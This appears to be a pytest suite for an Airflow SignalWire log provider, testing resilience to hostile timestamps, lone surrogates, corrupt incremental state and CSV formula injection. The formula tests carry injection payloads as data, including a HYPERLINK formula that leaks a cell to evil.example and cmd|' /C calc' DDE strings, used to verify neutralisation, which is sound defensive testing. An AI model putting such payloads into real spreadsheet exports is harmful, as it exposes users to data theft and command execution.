"""API data cannot blind a watcher or an export: hostile timestamps, unencodable text, CSV formulas, and
incremental state that cannot be right."""

from __future__ import annotations

import asyncio
import contextlib
import copy
import csv
import io
import json
import logging
import re
import time
from collections import defaultdict
from collections.abc import AsyncIterator, Callable
from datetime import datetime, timedelta, timezone
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from airflow_provider_signalwire.exceptions import SignalWireConfigError
from airflow_provider_signalwire.times import parse_record_time
from airflow_provider_signalwire.transfers import logs
from airflow_provider_signalwire.transfers.encoders import CsvEncoder, EncodeTally, JsonlEncoder
from airflow_provider_signalwire.transfers.log_families import LOG_FAMILIES
from airflow_provider_signalwire.transfers.logs import SignalWireLogsToStorageOperator

try:
    from airflow.triggers.base import BaseEventTrigger  # noqa: F401

    HAS_WATCHERS = True
except ImportError:  # Airflow 2.11
    HAS_WATCHERS = False
needs_watchers = pytest.mark.skipif(not HAS_WATCHERS, reason="asset watchers need Airflow 3")

UTC = timezone.utc
VOICE = LOG_FAMILIES["voice"]

# ------------------------------------------------------------------------------ hostile timestamps

# Dated far ahead, but a real moment: announced once, without moving the watermark there.
FAR_FUTURE = {
    "date-9999": "9999-01-01",
    "max-datetime": "9999-12-31T23:59:59.999999Z",
    "year-3000-offset": "3000-01-01T00:00:00+14:00",
    "rfc2822-9998": "Fri, 31 Dec 9998 23:59:59 +0000",
    "tomorrow": "TOMORROW",  # filled in with the real clock
}
# Not a timestamp anything can use: skipped with a warning, never fatal.
UNREADABLE: dict[str, Any] = {
    "past-9999-in-utc": "9999-12-31T23:59:59-12:00",
    "past-9999-by-a-minute": "9999-12-31T23:59:59-00:01",
    "before-year-1-in-utc": "0001-01-01T00:00:00+01:00",
    "before-year-1-by-14h": "0001-01-01T00:00:00+14:00",
    "rfc2822-past-9999": "Fri, 31 Dec 9999 23:59:59 -1200",
    "offset-plus-99": "2026-01-01T00:00:00+99:00",
    "offset-24": "2026-01-01T00:00:00+24:00",
    "offset-minus-99-59": "2026-01-01T00:00:00-99:59",
    "february-30": "2026-02-30T00:00:00Z",
    "hour-25": "2026-01-01T25:00:00Z",
    "year-10000": "10000-01-01T00:00:00Z",
    "js-max-date": "+275760-09-13T00:00:00Z",
    "garbage": "not a date",
    "empty": "",
    "blank": "   ",
    "null": None,
    "zero": 0,
    "epoch-seconds": 1767225600,
    "negative": -1,
    "huge-float": 1.5e300,
    "nan": float("nan"),
    "infinity": float("inf"),
    "true": True,
    "list": ["2026-01-01T00:00:00Z"],
    "object": {"at": "2026-01-01T00:00:00Z"},
    "huge-digits": "9" * 100_000,
    "huge-tail": "2026-01-01T00:00:00" + "0" * 100_000,
    "huge-garbage": "x" * 1_000_000,
    "lone-surrogate": "\ud800",
    "surrogate-tail": "2026-01-01T00:00:00Z\ud800",
    "low-surrogate-head": "\udfff9999-01-01",
}


def _hostile_time(raw: Any) -> Any:
    if raw == "TOMORROW":
        return (datetime.now(UTC) + timedelta(days=1)).isoformat()
    return raw


def test_every_hostile_timestamp_parses_or_is_none() -> None:
    from airflow_provider_signalwire.times import parse_timestamp

    for name, raw in UNREADABLE.items():
        assert parse_timestamp(raw) is None, name
    for name, raw in FAR_FUTURE.items():
        parsed = parse_timestamp(_hostile_time(raw))
        assert parsed is not None and parsed > datetime.now(UTC), name


class ScriptedListing:
    """Stands in for the async hook: every poll lists ``items`` as they are now (newest first)."""

    def __init__(self) -> None:
        self.items: list[Any] = []
        self.polls = 0

    def hook_class(self) -> type:
        listing = self

        class ScriptedHook:
            def __init__(self, **_kwargs: Any) -> None:
                pass

            async def get_settings(self) -> Any:
                return SimpleNamespace(project_id="p")

            async def paginate(
                self, path: str, params: Any = None, page_size: Any = None
            ) -> AsyncIterator[Any]:
                listing.polls += 1
                for item in list(listing.items):
                    yield item

        return ScriptedHook


class StateStore:
    """The asset state store as the triggerer gives it to a watcher (aget / aset of JSON values)."""

    def __init__(self, values: dict[str, Any] | None = None) -> None:
        self.values: dict[str, Any] = dict(values or {})
        self.writes = 0

    async def aget(self, key: str, default: Any = None) -> Any:
        return copy.deepcopy(self.values.get(key, default))

    async def aset(self, key: str, value: Any) -> None:
        json.dumps(value)
        self.values[key] = copy.deepcopy(value)
        self.writes += 1


class Watcher:
    def __init__(self, trigger: Any) -> None:
        self.events: list[dict[str, Any]] = []
        self.error: BaseException | None = None
        self.task = asyncio.ensure_future(self._collect(trigger.run()))

    async def _collect(self, source: AsyncIterator[Any]) -> None:
        try:
            async for event in source:
                self.events.append(event.payload)
        except Exception as err:
            self.error = err

    @property
    def ids(self) -> list[str]:
        return [e["id"] for e in self.events]

    async def stop(self) -> None:
        self.task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await self.task


async def until(condition: Callable[[], bool], timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError("condition not met in time")
        await asyncio.sleep(0.01)


@pytest.fixture
def listing(monkeypatch: pytest.MonkeyPatch) -> ScriptedListing:
    from airflow_provider_signalwire.triggers.events import SignalWireNewItemsTrigger

    scripted = ScriptedListing()
    monkeypatch.setattr(
        "airflow_provider_signalwire.hooks.signalwire_async.SignalWireAsyncHook", scripted.hook_class()
    )
    monkeypatch.setattr(SignalWireNewItemsTrigger, "persist_delay", 0.0)
    return scripted


def voice_watcher(store: StateStore, **kwargs: Any) -> Watcher:
    from airflow_provider_signalwire.triggers.events import SignalWireNewItemsTrigger

    trigger = SignalWireNewItemsTrigger(kind="voice_logs", poll_interval=0.1, **kwargs)
    trigger.asset_state_store = store
    return Watcher(trigger)


async def more_polls(listing: ScriptedListing, n: int) -> None:
    """Wait until ``n`` more polls started: every poll before the last one has been handled."""
    target = listing.polls + n
    await until(lambda: listing.polls >= target)


def now_iso() -> str:
    return datetime.now(UTC).isoformat()


def stored_after(store: StateStore) -> datetime:
    return datetime.fromisoformat(store.values["signalwire.new_items.voice_logs"]["after"])


def warnings_about(caplog: pytest.LogCaptureFixture, text: str) -> list[str]:
    return [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING and text in r.getMessage()]


@needs_watchers
@pytest.mark.parametrize(
    ("raw", "announced"),
    [*((raw, True) for raw in FAR_FUTURE.values()), *((raw, False) for raw in UNREADABLE.values())],
    ids=[*FAR_FUTURE, *UNREADABLE],
)
async def test_a_hostile_timestamp_neither_stops_nor_blinds_the_watcher(
    listing: ScriptedListing, caplog: pytest.LogCaptureFixture, raw: Any, announced: bool
) -> None:
    from airflow_provider_signalwire.triggers.events import FUTURE_SKEW

    caplog.set_level(logging.WARNING)
    store = StateStore()
    watcher = voice_watcher(store)
    await until(lambda: store.writes >= 1)  # the first poll: watching from now on
    listing.items.insert(0, {"id": "hostile", "created_at": _hostile_time(raw)})
    await more_polls(listing, 3)
    real = {"id": "real", "created_at": now_iso()}
    listing.items.append(real)  # listed after the hostile item, as newest first would put it
    await until(lambda: "real" in watcher.ids or watcher.task.done(), timeout=5)
    await more_polls(listing, 3)
    await watcher.stop()

    assert watcher.error is None
    assert watcher.ids == (["hostile", "real"] if announced else ["real"])
    assert stored_after(store) <= datetime.now(UTC) + FUTURE_SKEW
    if announced:
        assert len(warnings_about(caplog, "'hostile' is dated")) == 1  # once, not at every poll
    else:
        logged = warnings_about(caplog, "'hostile'")
        assert len(logged) == 1 and "not a timestamp that can be read" in logged[0]
        assert len(logged[0]) < 300


@needs_watchers
async def test_after_far_future_items_later_real_items_are_announced(listing: ScriptedListing) -> None:
    store = StateStore()
    watcher = voice_watcher(store, overlap=0)  # no slack at all: the watermark trails the newest item
    await until(lambda: store.writes >= 1)
    listing.items[:0] = [{"id": f"future-{k}", "created_at": f"{9999 - k}-01-01T00:00:00Z"} for k in range(3)]
    await more_polls(listing, 3)
    for k in range(3):
        listing.items.append({"id": f"real-{k}", "created_at": now_iso()})
        await until(lambda: f"real-{k}" in watcher.ids, timeout=5)  # noqa: B023
    await more_polls(listing, 2)
    await watcher.stop()
    assert sorted(watcher.ids) == sorted(
        [*(f"future-{k}" for k in range(3)), *(f"real-{k}" for k in range(3))]
    )
    stored = store.values["signalwire.new_items.voice_logs"]
    assert datetime.fromisoformat(stored["after"]) <= datetime.now(UTC)
    assert {f"future-{k}" for k in range(3)} <= set(stored["seen"])  # so never announced again


@needs_watchers
async def test_a_watermark_stored_far_ahead_is_brought_back_to_now(listing: ScriptedListing) -> None:
    """A watermark an earlier version moved to 9999: the watch resumes from now, and the item that moved
    it is not announced again."""
    far = "9999-01-01T00:00:00+00:00"
    store = StateStore(
        {
            "signalwire.new_items.voice_logs": {
                "version": 1,
                "after": "9998-12-31T23:58:00+00:00",
                "seen": {"f": far},
            }
        }
    )
    listing.items.append({"id": "f", "created_at": far})
    watcher = voice_watcher(store)
    await more_polls(listing, 2)
    listing.items.append({"id": "real", "created_at": now_iso()})
    await until(lambda: "real" in watcher.ids, timeout=5)
    await more_polls(listing, 2)
    await watcher.stop()
    assert watcher.ids == ["real"]
    assert stored_after(store) <= datetime.now(UTC)


@needs_watchers
async def test_one_record_dated_long_ago_does_not_end_the_listing(listing: ScriptedListing) -> None:
    """The list is read newest first and paging stops at old records: one record with a wrong old date
    at the top must not hide the new records listed after it."""
    store = StateStore()
    watcher = voice_watcher(store)
    await until(lambda: store.writes >= 1)
    listing.items[:0] = [
        {"id": "epoch", "created_at": "1970-01-01T00:00:00Z"},
        {"id": "real", "created_at": now_iso()},
    ]
    await until(lambda: "real" in watcher.ids, timeout=5)
    await watcher.stop()
    assert watcher.ids == ["real"]


@needs_watchers
async def test_a_far_future_record_on_the_fake_space(signalwire_space: Any) -> None:
    """The same through the async hook and the fake space's HTTPS listing."""
    from airflow_provider_signalwire.triggers.events import SignalWireNewItemsTrigger

    space = signalwire_space
    entries = space.backends["logs"]
    path = "/api/voice/logs"

    def gets() -> int:
        return sum(1 for r in space.requests if r.method == "GET" and r.path == path)

    store = StateStore()
    trigger = SignalWireNewItemsTrigger(kind="voice_logs", poll_interval=0.1)
    trigger.asset_state_store = store
    watcher = Watcher(trigger)
    await until(lambda: store.writes >= 1)
    far = entries.add("voice", space.clock.now(), created_at="9999-01-01T00:00:00Z").render()
    out_of_range = entries.add("voice", space.clock.now(), created_at="9999-12-31T23:59:59-12:00").render()
    polls = gets()
    await until(lambda: gets() >= polls + 3)
    real = entries.add("voice", space.clock.now() + timedelta(seconds=1)).render()
    await until(lambda: real["id"] in watcher.ids or watcher.task.done())
    await watcher.stop()
    assert watcher.error is None
    assert sorted(watcher.ids) == sorted([far["id"], real["id"]]) and out_of_range["id"] not in watcher.ids


# ------------------------------------------------------------------------------ record times in exports

IMPOSSIBLE_RECORD_TIMES = [
    "2026-11-01T12:00:00+99:00",
    "2026-11-01T12:00:00-24:00",
    "2026-11-01T12:00:00+2400",
    "9999-12-31T23:59:59-12:00",
    "0001-01-01T00:00:00+01:00",
    "Fri, 31 Dec 9999 23:59:59 -1200",
    "2026-02-30T00:00:00Z",
    "2026-11-01T12:00:00Z\ud800",
    "0000-01-01",
    "2026-11-01T12:00:00" + "0" * 100_000 + "+99:00",
]


@pytest.mark.parametrize("text", IMPOSSIBLE_RECORD_TIMES, ids=range(len(IMPOSSIBLE_RECORD_TIMES)))
def test_an_impossible_record_time_is_our_short_error(text: str) -> None:
    with pytest.raises(ValueError) as caught:
        parse_record_time(text)
    message = str(caught.value)
    assert len(message) < 150
    assert "timedelta" not in message and "must be in" not in message  # not Python's own words
    with pytest.raises(ValueError, match=r"^a voice record \('r1'\) has created_at .* the export stopped"):
        VOICE.record_time({"id": "r1", "created_at": text})


def test_an_impossible_record_time_stops_the_export_with_our_error(
    signalwire_space: Any, tmp_path: Path
) -> None:
    day = datetime(2026, 11, 1, tzinfo=UTC)
    signalwire_space.seed_logs("voice", 3, day, day + timedelta(hours=6))
    signalwire_space.backends["logs"].add(
        "voice", day + timedelta(hours=12), id="bad", created_at="2026-11-01T12:00:00+99:00"
    )
    op = SignalWireLogsToStorageOperator(
        task_id="t",
        log_type="voice",
        destination=str(tmp_path / "v.jsonl"),
        created_after="2026-11-01",
        created_before="2026-11-02",
    )
    with pytest.raises(
        ValueError, match=r"a voice record \('bad'\) has created_at '2026-11-01T12:00:00\+99:00' "
    ):
        op.execute({})
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------------------------------------ unencodable text

UNENCODABLE: dict[str, Any] = {
    "lone-high": {"id": "r", "status": "\ud800"},
    "lone-low": {"id": "r", "status": "ok\udfffok"},
    "reversed-pair": {"id": "r", "status": "\udc00\ud800"},
    "in-a-key": {"id": "r", "\ud83d": 1},
    "in-a-list": {"id": "r", "charge_details": [{"description": "\udbff"}]},
    "in-the-id": {"id": "\ud800", "status": "completed"},
    "with-real-emoji": {"id": "r", "status": "😀\ud800😀"},
}


@pytest.mark.parametrize("record", list(UNENCODABLE.values()), ids=list(UNENCODABLE))
def test_jsonl_writes_lone_surrogates_as_json_escapes_and_counts_them(record: dict[str, Any]) -> None:
    encoder = JsonlEncoder(VOICE)
    line = encoder.encode(record)
    assert line.endswith(b"\n") and line.decode("utf-8")
    assert json.loads(line) == record  # the escapes read back as the very same text
    assert encoder.tally.unencodable == 1
    assert encoder.encode({"id": "fine", "status": "é"}) == '{"id":"fine","status":"é"}\n'.encode()
    assert encoder.tally.unencodable == 1


@pytest.mark.parametrize("record", list(UNENCODABLE.values()), ids=list(UNENCODABLE))
def test_csv_writes_lone_surrogates_as_replacement_characters_and_counts_them(record: dict[str, Any]) -> None:
    encoder = CsvEncoder(VOICE)
    row = encoder.encode(record).decode("utf-8")
    assert "\ufffd" in row
    (cells,) = list(csv.reader(io.StringIO(row)))
    assert len(cells) == len(VOICE.columns) + 1
    assert encoder.tally.unencodable == 1


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
@pytest.mark.parametrize("parallel_windows", [1, 3])
def test_an_export_with_lone_surrogates_succeeds_and_logs_the_count(
    make_conn: Callable[..., str],
    tmp_path: Path,
    capfd: pytest.CaptureFixture[str],
    fmt: str,
    parallel_windows: int,
) -> None:
    """The API sends a lone surrogate as a JSON escape (the fake space cannot serve one): every window
    of the export gets the same newest-first page and keeps its own records."""
    import requests_mock

    records = [
        {"id": f"r{hour}", "created_at": f"2026-11-01T{hour:02d}:00:00Z", "status": "bad \ud800 text"}
        for hour in (20, 17, 9, 1)  # one in each of three windows, newest first
    ]
    records[0]["status"] = "fine"
    body = json.dumps({"data": records, "links": {}})  # ASCII JSON: "\\ud800" on the wire
    assert "\\ud800" in body
    out = tmp_path / f"v.{fmt}"
    op = SignalWireLogsToStorageOperator(
        task_id="t",
        log_type="voice",
        destination=str(out),
        format=fmt,
        parallel_windows=parallel_windows,
        created_after="2026-11-01",
        created_before="2026-11-02",
        signalwire_conn_id=make_conn(),
    )
    with requests_mock.Mocker() as mock:
        mock.get(
            "https://acme.signalwire.com/api/voice/logs",
            text=body,
            headers={"Content-Type": "application/json"},
        )
        assert op.execute({})["records"] == 4
    text = out.read_text(encoding="utf-8")
    if fmt == "jsonl":
        statuses = [json.loads(line)["status"] for line in text.splitlines()]
        assert statuses == ["fine", "bad \ud800 text", "bad \ud800 text", "bad \ud800 text"]
    else:
        statuses = [row["status"] for row in csv.DictReader(io.StringIO(text, newline=""))]
        assert statuses == ["fine", "bad \ufffd text", "bad \ufffd text", "bad \ufffd text"]
    logged = [line for line in capfd.readouterr().out.splitlines() if "cannot encode" in line]
    # "] 3 voice" on Airflow 3's log format, "WARNING - 3 voice" on Airflow 2's: the count starts the message.
    assert len(logged) == 1 and re.search(r"[\]-] 3 voice records held text", logged[0])


# ------------------------------------------------------------------------------ CSV formulas

# cell value from the API -> the cell written by default (escape)
FORMULA_CELLS: list[tuple[Any, str]] = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("https://evil.example/?"&A1,"click")', '\'=HYPERLINK("https://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("+", "'+"),
    ("+1 555 123", "'+1 555 123"),
    ("-5-5", "'-5-5"),
    ("+1e5+1", "'+1e5+1"),
    ("-5\n", "'-5\n"),
    ("=5", "'=5"),
    ("+\u0661\u0662\u0663", "'+\u0661\u0662\u0663"),  # Arabic-Indic digits: not a number to a spreadsheet
    ("-\uff15", "'-\uff15"),  # a full-width 5
    # numbers are read as numbers, never run: left as they are
    ("+15551234567", "+15551234567"),
    ("-5", "-5"),
    ("-0.25", "-0.25"),
    ("+1.5e3", "+1.5e3"),
    ("-.5", "-.5"),
    (-5, "-5"),
    (-1e300, "-1e+300"),
    (-0.0, "-0.0"),
    # not formulas
    ("plain", "plain"),
    (" =1+1", " =1+1"),
    ("a=b", "a=b"),
    ("'=1+1", "'=1+1"),
    ("", ""),
    (None, ""),
    (True, "true"),
    ([-1], "[-1]"),
    ({"k": "=1"}, '{"k":"=1"}'),
]


@pytest.mark.parametrize("value", ["a\rb", "\r", "x\r\ny", "\r=1+1", "ok\r,=1+1,\r"])
@pytest.mark.parametrize("formulas", ["escape", "raw"])
def test_a_carriage_return_in_a_cell_cannot_break_the_row(value: str, formulas: str) -> None:
    encoder = CsvEncoder(VOICE, formulas=formulas)
    text = (encoder.header() + encoder.encode({"id": "r1", "status": value, "to": "+15550001111"})).decode()
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["status"] in (value, "'" + value) and row["to"] == "+15550001111" and row["_other"] == ""


@pytest.mark.parametrize(("value", "written"), FORMULA_CELLS, ids=[repr(v)[:30] for v, _ in FORMULA_CELLS])
def test_csv_cells_that_spreadsheets_would_run_are_neutralised(value: Any, written: str) -> None:
    escaped, raw = CsvEncoder(VOICE), CsvEncoder(VOICE, formulas="raw")
    record = {"id": "r1", "status": value}
    (row,) = list(
        csv.DictReader(io.StringIO((escaped.header() + escaped.encode(record)).decode(), newline=""))
    )
    assert row["status"] == written
    neutralised = isinstance(value, str) and written == "'" + value
    assert escaped.tally.formulas == neutralised
    (row,) = list(csv.DictReader(io.StringIO((raw.header() + raw.encode(record)).decode(), newline="")))
    assert row["status"] == (value if isinstance(value, str) else written)
    assert raw.tally.formulas == 0


def test_the_formula_count_and_the_option_on_the_operator(
    signalwire_space: Any, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    day = datetime(2026, 11, 1, tzinfo=UTC)
    entries = signalwire_space.backends["logs"]
    entries.add("voice", day + timedelta(hours=1), status="=cmd|' /C calc'!A0", type="@SUM(A1)")
    entries.add("voice", day + timedelta(hours=2), status="completed", duration=-5)
    results = {}
    for option in ("escape", "raw"):
        out = tmp_path / f"{option}.csv"
        SignalWireLogsToStorageOperator(
            task_id="t",
            log_type="voice",
            destination=str(out),
            format="csv",
            csv_formulas=option,
            created_after="2026-11-01",
            created_before="2026-11-02",
        ).execute({})
        results[option] = list(csv.DictReader(io.StringIO(out.read_text())))
    oldest_raw, oldest = results["raw"][1], results["escape"][1]
    assert (oldest["status"], oldest["type"]) == ("'=cmd|' /C calc'!A0", "'@SUM(A1)")
    assert (oldest_raw["status"], oldest_raw["type"]) == ("=cmd|' /C calc'!A0", "@SUM(A1)")
    assert results["escape"][0]["duration"] == "-5" and results["escape"][0]["from"] == "+15551230000"
    logged = [line for line in capfd.readouterr().out.splitlines() if "formulas" in line]
    formulas = r"[\]-] 2 CSV cells that spreadsheets would run as formulas"
    assert len(logged) == 1 and re.search(formulas, logged[0])


@pytest.mark.parametrize("option", ["Escape", "none", "", None, True, "quote"])
def test_an_unknown_csv_formulas_option_is_refused(option: Any) -> None:
    with pytest.raises(SignalWireConfigError, match=r"csv_formulas is .*: use 'escape' .* or 'raw'"):
        SignalWireLogsToStorageOperator(
            task_id="t", log_type="voice", destination="/d/v.csv", format="csv", csv_formulas=option
        )


# ------------------------------------------------------------------------------ incremental state

NOW = datetime(2026, 11, 2, 12, 0, tzinfo=UTC)
KEY = "signalwire.logs.voice"
AIRFLOW_3_3 = logs._airflow_version() >= (3, 3)
needs_3_3 = pytest.mark.skipif(not AIRFLOW_3_3, reason="incremental exports need Airflow 3.3")
START = "2026-11-01T00:00:00Z"

# A stored state that cannot be right -> words of our error. Refused before anything is written.
BAD_STATES: dict[str, tuple[Any, str]] = {
    "watermark-past-9999-in-utc": ({"watermark": "9999-12-31T23:59:59-12:00"}, "not a time"),
    "watermark-offset-99": ({"watermark": "2026-11-01T00:00:00+99:00"}, "not a time"),
    "watermark-no-room-for-margins": ({"watermark": "9999-12-31T23:00:00Z"}, "not a time"),
    "watermark-year-1": ({"watermark": "0001-01-01T00:00:00Z"}, "not a time"),
    "watermark-year-999": ({"watermark": "0999-06-01T00:00:00Z"}, "not a time"),
    "watermark-garbage": ({"watermark": "yesterday"}, "not a time"),
    "watermark-empty": ({"watermark": ""}, "not a time"),
    "watermark-number": ({"watermark": 1767225600}, "not a time"),
    "watermark-list": ({"watermark": [START]}, "not a time"),
    "watermark-surrogate": ({"watermark": "2026-11-01\ud800"}, "not a time"),
    "watermark-huge": ({"watermark": "2026-11-01T00:00:00" + "0" * 100_000}, "not a time"),
    "watermark-far-ahead": ({"watermark": "9999-01-01T00:00:00Z"}, "after now"),
    "watermark-a-day-ahead": ({"watermark": "2026-11-03T12:00:00Z"}, "after now"),
    "pending-ends-in-9999": (
        {"watermark": START, "pending": [START, "9999-01-01T00:00:00Z"]},
        "ends after now",
    ),
    "pending-ends-a-minute-ahead": (
        {"watermark": START, "pending": [START, "2026-11-02T12:01:00Z"]},
        "ends after now",
    ),
    "pending-end-out-of-range": (
        {"watermark": START, "pending": [START, "9999-12-31T23:59:59-12:00"]},
        "not a time",
    ),
    "pending-end-offset-99": (
        {"watermark": START, "pending": [START, "2026-11-02T00:00:00+99:00"]},
        "not a time",
    ),
    "pending-end-garbage": ({"watermark": START, "pending": [START, "soon"]}, "not a time"),
    "pending-end-null": ({"watermark": START, "pending": [START, None]}, "does not end after it starts"),
    "pending-ends-before-it-starts": (
        {"watermark": START, "pending": [START, "2026-10-01T00:00:00Z"]},
        "does not end after it starts",
    ),
    "pending-start-out-of-range": (
        {"watermark": START, "pending": ["0001-01-01T00:00:00+01:00", START]},
        "not a time",
    ),
    "pending-not-a-pair": ({"watermark": START, "pending": [START]}, "not [start, end]"),
    "pending-a-string": ({"watermark": START, "pending": "2026-11-01/2026-11-02"}, "not [start, end]"),
}


class Store:
    def __init__(self, state: Any) -> None:
        self.data: dict[str, Any] = {KEY: copy.deepcopy(state)}
        self.writes: list[Any] = []

    def get(self, key: str, default: Any = None) -> Any:
        return copy.deepcopy(self.data.get(key, default))

    def set(self, key: str, value: Any) -> None:
        self.writes.append(value)
        self.data[key] = copy.deepcopy(value)


def incremental(folder: Path, store: Store, now: datetime = NOW) -> Callable[[], dict[str, Any]]:
    from airflow.providers.common.compat.sdk import Asset

    asset = Asset("signalwire-voice-logs")
    op = SignalWireLogsToStorageOperator(
        task_id="export",
        log_type="voice",
        destination=f"{folder}/{{window_start}}_{{window_end}}.jsonl",
        incremental=True,
        outlets=[asset],
    )
    op._now = lambda: now  # type: ignore[method-assign]
    context = {
        "asset_state_store": {asset: store},
        "outlet_events": defaultdict(lambda: SimpleNamespace(extra={}, add=lambda *a, **k: None)),
        "dag_run": SimpleNamespace(run_after=now),
    }
    return lambda: op.execute(context)  # type: ignore[arg-type]


@needs_3_3
@pytest.mark.parametrize(("state", "words"), list(BAD_STATES.values()), ids=list(BAD_STATES))
def test_incremental_state_that_cannot_be_right_is_refused_before_anything_is_written(
    signalwire_space: Any, tmp_path: Path, state: Any, words: str
) -> None:
    store = Store(state)
    with pytest.raises(SignalWireConfigError) as caught:
        incremental(tmp_path, store)()
    message = str(caught.value)
    assert words in message and f"stored under '{KEY}'" in message
    assert "delete" in message.lower()  # the way out
    assert len(message) < 600
    assert store.writes == [] and store.data[KEY] == state
    assert signalwire_space.requests == []
    assert list(tmp_path.iterdir()) == []


@needs_3_3
def test_a_watermark_a_little_ahead_of_this_clock_skips_as_before(
    signalwire_space: Any, tmp_path: Path
) -> None:
    from airflow.providers.common.compat.sdk import AirflowSkipException

    store = Store({"watermark": "2026-11-02T12:03:00Z"})  # a worker whose clock runs 3 minutes ahead
    with pytest.raises(AirflowSkipException, match="Nothing to export yet"):
        incremental(tmp_path, store)()
    assert store.writes == [] and signalwire_space.requests == []


@needs_3_3
def test_a_pending_window_that_ended_in_the_past_is_exported_as_chosen(
    signalwire_space: Any, tmp_path: Path
) -> None:
    store = Store({"watermark": START, "pending": [START, "2026-11-02T11:58:00Z"]})  # settle was 2 min
    result = incremental(tmp_path, store)()
    assert result["window"] == [START, "2026-11-02T11:58:00Z"]
    assert store.data[KEY] == {"watermark": "2026-11-02T11:58:00Z"}


@needs_3_3
def test_a_first_start_out_of_range_is_refused_before_anything_is_written(
    signalwire_space: Any, tmp_path: Path
) -> None:
    from airflow.providers.common.compat.sdk import Asset

    asset = Asset("signalwire-voice-logs")
    op = SignalWireLogsToStorageOperator(
        task_id="export",
        log_type="voice",
        destination=f"{tmp_path}/{{window_start}}.jsonl",
        incremental=True,
        outlets=[asset],
        created_after="0001-01-01",
    )
    op._now = lambda: NOW  # type: ignore[method-assign]
    store = Store(None)
    context = {"asset_state_store": {asset: store}, "dag_run": SimpleNamespace(run_after=NOW)}
    with pytest.raises(SignalWireConfigError, match="first window would start at"):
        op.execute(context)  # type: ignore[arg-type]
    assert store.writes == [] and signalwire_space.requests == []


@pytest.mark.parametrize("log_type", ["voice", "compat_calls"])
@pytest.mark.parametrize(
    ("after", "before", "field"),
    [
        ("0001-01-01", "2026-11-01", "created_after"),  # "everything", as a tired user writes it
        ("2026-11-01", "9999-12-31T23:59:59Z", "created_before"),
    ],
)
def test_an_explicit_window_out_of_range_is_refused_before_anything_is_written(
    signalwire_space: Any, tmp_path: Path, log_type: str, after: str, before: str, field: str
) -> None:
    op = SignalWireLogsToStorageOperator(
        task_id="export",
        log_type=log_type,
        destination=f"{tmp_path}/logs.jsonl",
        created_after=after,
        created_before=before,
    )
    with pytest.raises(SignalWireConfigError, match=f"export: {field} is .*out of the range"):
        op.execute({})  # type: ignore[arg-type]
    assert signalwire_space.requests == []
    assert list(tmp_path.iterdir()) == []


def test_encoders_share_one_tally_across_parallel_windows() -> None:
    tally = EncodeTally()
    parent = CsvEncoder(VOICE, formulas="escape", tally=tally)
    child = parent.fork()
    assert child.formulas == "escape" and child.tally is tally
    child.encode({"id": "=x", "status": "\ud800"})
    assert (tally.formulas, tally.unencodable) == (1, 1)
    assert CsvEncoder(VOICE, formulas="raw").fork().formulas == "raw"
    assert JsonlEncoder(VOICE).fork().tally is not tally
